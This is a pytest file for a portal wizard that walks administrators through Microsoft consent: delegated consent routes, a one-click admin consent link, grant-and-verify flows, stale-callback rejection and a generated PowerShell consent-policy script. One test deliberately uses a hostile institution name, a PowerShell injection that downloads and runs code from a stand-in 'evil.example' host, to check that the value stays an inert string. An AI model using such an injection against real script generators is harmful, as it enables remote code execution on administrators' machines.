"""Consent in the wizard: the three delegated routes in step 3 (with the custom app consent
policy's PowerShell filled in), the one-click admin consent link for application
permissions, and *Grant for the whole organisation* signing the administrator in, granting
and checking again in one flow against the identity stand-in, with one result on the page."""

import re
from urllib.parse import parse_qs, urlsplit

import pytest

from portal import invitations
from portal.extensions import db
from portal.models import AuditEvent, Configuration
from tests.conftest import CSRF, Wizard
from tests.hostile import literals
from tests.standins_selftest.helpers import Browser, CASession

ADMIN, ADELE = "admin@contoso.edu", "adele.vance@contoso.edu"
NOTICE = re.compile(r'class="notice notice-(success|error|warning|info)"')


@pytest.fixture
def portal(make_app, standins, configure):
    """The portal pointed at the stand-ins; ``portal.make(**fields)`` gives a draft
    configuration of the demo tenant, nothing consented, and a wizard open on it."""

    app = make_app(**standins.settings())

    def make(**fields):
        fields = {"status": "draft", "consented": False, "verified_at": None, **fields}
        configuration_id = configure(app, **fields)
        with app.app_context():
            configuration = db.session.get(Configuration, configuration_id)
            link = invitations.issue_invitation(configuration.institution, "test")
            db.session.commit()
        wizard = Wizard(app.test_client())
        wizard.open(link)
        return wizard

    app.make = make
    return app


class Administrator:
    """A wizard in the portal and a browser at the identity stand-in."""

    def __init__(self, wizard, standins):
        self.wizard = wizard
        self.microsoft = Browser(CASession(standins.pki.bundle_path))

    def back(self, page):
        """Follow Microsoft's redirect to the portal's callback."""
        assert page.status_code == 302, page.text
        answer = urlsplit(page.headers["Location"])
        assert answer.path == "/connect/callback", page.headers["Location"]
        return self.wizard.client.get(f"{answer.path}?{answer.query}")

    def grant(self, login=ADMIN, button="idBtn_Accept"):
        """Press *Grant for the whole organisation* and answer Microsoft's consent page."""
        start = self.wizard.post("/setup/verify/admin-consent", page="/setup/verify")
        assert start.status_code == 302, start.text
        page = self.microsoft.press(self.microsoft.open(start.location), button, login=login)
        if "Need admin approval" in page.text:
            page = self.microsoft.press(page, "idBtn_Back")
        return start.location, self.back(page)

    def sign_in(self, location, login=ADMIN):
        """The sign-in the portal sends the browser to after the consent."""
        page = self.microsoft.press(self.microsoft.open(location), "idSIButton9", login=login)
        return self.back(page)


def notices(page: str) -> list[str]:
    return NOTICE.findall(page)


# Step 3: three routes for delegated permissions


def test_step_3_offers_delegated_permissions_three_ways_to_consent(wizard, invitation):
    wizard.open(invitation["managed"])
    wizard.to_tenant("delegated")
    page = wizard.client.get("/setup/register").text
    for route in ("route-users", "route-organisation", "route-policy"):
        assert f'id="{route}"' in page
    assert "microsoft-user-default-recommended" in page and "November 2025" in page
    assert "New-MgPolicyPermissionGrantPolicy" in page
    assert "/setup/scripts/consent-policy.ps1" in page


def test_step_3_for_application_permissions_shows_no_user_consent_routes(wizard, invitation):
    wizard.open(invitation["managed"])
    wizard.to_tenant("application")
    page = wizard.client.get("/setup/register").text
    assert 'id="route-users"' not in page and "New-MgPolicyPermissionGrantPolicy" not in page


def test_the_consent_policy_script_is_filled_in_with_the_client_id(wizard, invitation):
    client_id = "5b2f8c39-7a1e-4a53-9d0e-3c7f1a2b4c6d"
    wizard.open(invitation["managed"])
    wizard.to_tenant("delegated", "usgov")
    wizard.enter_tenant("example.edu", client_id)
    response = wizard.client.get("/setup/scripts/consent-policy.ps1")
    assert response.status_code == 200
    assert "attachment" in response.headers["Content-Disposition"]
    script = response.get_data(as_text=True)
    values, code = literals(script)
    assert client_id in values and "USGov" in values
    assert {"Calendars.ReadWrite", "User.Read", "offline_access"} <= set(values)
    assert "MyTimetable - Example University" in values
    assert "-ClientApplicationIds @($AppId)" in code
    assert "-PermissionType \x00 -ResourceApplication $Graph.AppId" in code
    assert "New-MgPolicyPermissionGrantPolicyInclude -PermissionGrantPolicyId $PolicyId" in code
    assert "ManagePermissionGrantsForSelf." in values
    assert "Update-MgPolicyAuthorizationPolicy -DefaultUserRolePermissions" in code
    # the verification step shows it too, filled in
    assert "New-MgPolicyPermissionGrantPolicy" in wizard.client.get("/setup/verify").text


def test_hostile_institution_name_stays_a_string_in_the_consent_policy(app, wizard):
    from portal import certificates

    name = "O\u2019Brien'; iex(irm(\u2018https://evil.example/\u2019)) $(calc)"
    with app.app_context():
        certificates.create_vendor_certificate(365, "test")
        institution = invitations.create_institution(name, "managed", "it@contoso.edu", "t")
        link = invitations.issue_invitation(institution, "test")
        db.session.commit()
    wizard.open(link)
    wizard.to_tenant("delegated")
    values, code = literals(wizard.client.get("/setup/scripts/consent-policy.ps1").text)
    assert f"MyTimetable - {name}" in values
    assert "iex" not in code and "evil" not in code and "calc" not in code


# Application permissions: the one-click admin consent link


def test_application_permissions_get_the_admin_consent_link_for_graph_default(portal, standins):
    wizard = portal.make(method="application", step_reached=5)
    page = wizard.client.get("/setup/register").text
    assert 'form="admin-consent"' in page and "Grant admin consent for" in page
    assert 'action="/setup/verify/admin-consent"' in page
    start = wizard.post("/setup/verify/admin-consent", page="/setup/register")
    query = parse_qs(urlsplit(start.location).query)
    assert urlsplit(start.location).path == f"/{standins.TENANT}/v2.0/adminconsent"
    assert query["scope"] == ["https://graph.microsoft.com/.default"]
    assert query["client_id"] == [standins.CLIENT]
    assert query["redirect_uri"] == ["http://localhost/connect/callback"]


def test_rbac_scoped_application_permissions_are_never_offered_tenant_wide_consent(portal):
    wizard = portal.make(
        method="application",
        mailbox_scope="group",
        security_group_email="mytimetable@contoso.edu",
        group_scope_method="rbac",
    )
    assert "admin-consent" not in wizard.client.get("/setup/register").text
    assert "admin-consent" not in wizard.client.get("/setup/verify").text
    assert wizard.post("/setup/verify/admin-consent", page="/setup/verify").status_code == 400


def test_application_consent_runs_the_checks_again_in_one_flow(portal, standins):
    wizard = portal.make(method="application", test_mailbox=ADELE)
    administrator = Administrator(wizard, standins)
    _, back = administrator.grant()
    assert back.status_code == 302 and back.location.endswith("/setup/verify")
    page = wizard.client.get("/setup/verify").text
    assert notices(page) == ["success"] and "Every check passed" in page
    assert standins.registration.admin_consented


@pytest.mark.parametrize("consented_before", [True, False])
def test_a_cancelled_application_consent_leaves_results_that_are_current(
    portal, standins, consented_before
):
    wizard = portal.make(method="application", test_mailbox=ADELE)
    standins.registration.admin_consented = consented_before
    wizard.post("/setup/verify", data={"test_mailbox": ADELE}, page="/setup/verify")
    administrator = Administrator(wizard, standins)
    _, back = administrator.grant(button="idBtn_Back")  # the administrator cancels
    assert back.status_code == 302 and back.location.endswith("/setup/verify")
    page = wizard.client.get("/setup/verify").text
    if consented_before:  # nothing was lost: no red beside the green results
        assert notices(page) == ["info", "success"] and "Every check passed" in page
        assert "not granted this time (AADSTS65004)" in page
    else:  # the checks ran again and stop where consent is missing
        assert "error" in notices(page) and "success" not in notices(page)
        assert "Consent for the organisation was not granted (AADSTS65004)" in page
    with portal.app_context():
        runs = db.session.query(AuditEvent).filter_by(action="verification_run").count()
        assert runs == 2  # before, and again after the answer


# Delegated: Grant for the whole organisation, in one flow


def test_granting_for_the_organisation_signs_in_grants_and_checks_in_one_flow(portal, standins):
    wizard = portal.make(method="delegated")
    administrator = Administrator(wizard, standins)
    consent_url, back = administrator.grant()
    assert "/v2.0/adminconsent" in consent_url
    # Straight on to the sign-in that finishes the checks, no stop at the portal.
    assert back.status_code == 302
    assert urlsplit(back.location).path == f"/{standins.TENANT_GUID}/oauth2/v2.0/authorize"
    done = administrator.sign_in(back.location)
    assert done.status_code == 302 and done.location.endswith("/setup/verify")
    page = wizard.client.get("/setup/verify").text
    assert notices(page) == ["success"] and "Every check passed" in page
    assert "Consent was granted" not in page
    with portal.app_context():
        actions = [e.action for e in db.session.query(AuditEvent)]
        assert "admin_consent_granted" in actions
        assert db.session.query(Configuration).one().verified_at is not None


def test_a_failed_run_before_the_grant_gives_way_to_one_green_result(portal, standins):
    wizard = portal.make(method="delegated")
    administrator = Administrator(wizard, standins)
    # Adele may not consent (the demo tenant follows Microsoft's managed policy): red.
    start = wizard.post("/setup/verify/sign-in", page="/setup/verify")
    page = administrator.microsoft.press(
        administrator.microsoft.open(start.location), "idSIButton9", login=ADELE
    )
    administrator.back(administrator.microsoft.press(page, "idBtn_Back"))
    assert notices(wizard.client.get("/setup/verify").text) == ["error"]
    _, back = administrator.grant()
    administrator.sign_in(back.location)
    page = wizard.client.get("/setup/verify").text
    assert notices(page) == ["success"]


@pytest.mark.parametrize(
    ("login", "button", "code"),
    [(ADMIN, "idBtn_Back", "AADSTS65004"), (ADELE, "idBtn_Accept", "AADSTS90094")],
)
def test_a_refused_grant_is_one_red_result_in_the_chain(portal, standins, login, button, code):
    wizard = portal.make(method="delegated")
    administrator = Administrator(wizard, standins)
    _, back = administrator.grant(login=login, button=button)
    assert back.status_code == 302 and back.location.endswith("/setup/verify")
    page = wizard.client.get("/setup/verify").text
    assert notices(page) == ["error"] and code in page
    assert not standins.registration.admin_consented


def test_a_grant_answer_for_another_browser_is_stale(portal, standins):
    wizard = portal.make(method="delegated")
    start = wizard.post("/setup/verify/admin-consent", page="/setup/verify")
    state = parse_qs(urlsplit(start.location).query)["state"][0]
    other = portal.make(method="delegated", name="Fabrikam")
    answer = other.client.get(
        f"/connect/callback?admin_consent=True&tenant={standins.TENANT_GUID}&state={state}"
    )
    assert answer.status_code == 400
    assert CSRF.search(other.client.get("/setup/verify").text)  # the wizard still works
